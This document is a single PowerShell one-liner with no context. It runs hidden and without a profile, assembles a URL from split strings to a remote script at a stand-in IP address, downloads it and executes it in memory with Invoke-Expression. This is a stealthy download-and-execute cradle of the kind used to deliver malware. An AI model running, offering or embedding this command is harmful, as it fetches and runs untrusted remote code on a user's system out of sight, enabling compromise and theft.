powershell -nop -w hidden -c "$u=('http://198.51.100'+'.66/s.ps1');(New-Object Net.WebClient).DownloadString($u)|iex"
